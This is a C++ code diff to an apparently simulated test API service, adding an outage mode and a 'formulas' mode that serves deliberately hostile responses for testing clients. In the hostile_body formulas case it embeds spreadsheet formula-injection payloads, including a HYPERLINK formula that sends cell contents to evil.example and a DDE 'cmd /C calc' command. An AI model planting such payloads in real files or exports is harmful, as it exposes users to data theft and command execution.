@@ -31,6 +31,7 @@ void Reply::reset() {
   latency = chr::milliseconds{0};
   huge = false;
   logged = true;
+  refuse = false;
   key_id.clear();
   q.reset();
   hl.reset();
@@ -127,8 +128,14 @@ Service::Service(ServiceConfig config, TimePoint now)
       cache_(config_.cache_ttl, config_.cache_entries),
       rate_(config_.rate_limit, config_.keys.size()),
       faults_(config_.faults, config_.seed),
+      outage_(config_.outage),
       trees_(config_.tree),
       tree_cache_(config_.tree_cache_entries) {}
+
+std::optional<TimePoint> Service::outage_up_at() {
+  std::lock_guard lock(mutex_);
+  return outage_.up_at();
+}
 
 void Service::error(Reply& out, unsigned status, std::string_view message) {
   out.status = status;
@@ -197,6 +204,17 @@ void Service::handle(const RequestView& req, TimePoint now, Reply& out) {
     *slot = decode_buf_;
   }
 
+  if (auto down = outage_.on_request(now)) {
+    out.key_id = "none";
+    out.fault = Fault::outage;
+    if (*down == OutageMode::unavailable) {
+      error(out, 503, "Service Unavailable");
+    } else {
+      out.status = 0;
+      out.refuse = true;
+    }
+    return count(out);
+  }
   if (!req.api_key) {
     out.key_id = "none";
     error(out, 401, "Invalid token");
@@ -355,6 +373,16 @@ void Service::hostile_body(Reply& out, std::size_t id) {
       append_envelope_head(b, false, quota);
       b.resize(b.size() - std::string_view(",\"result\":").size());
       b += '}';
+      break;
+    case HostileMode::formulas:
+      // A usable answer: text cells a spreadsheet would evaluate, and a plain negative number.
+      append_envelope_head(b, false, quota);
+      b += "{\"question\":";
+      append_json_quoted(b, *out.q);
+      b += R"x(,"related":["=1+1","@SUM(A1:A2)"],"children":[{"question":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",)x"
+           R"x("answer":"+cmd|' /C calc'!A0","url":"https://evil.example/a","title":"-2+3","children":[)x"
+           R"x({"question":"\tTabbed question?","answer":"-3","url":"https://plain.example/b","title":"@title"},)x"
+           R"x({"question":"Plain question?","answer":"=2*3","url":"https://plain.example/c","title":"Plain"}]}]}})x";
       break;
     case HostileMode::none:
       break;
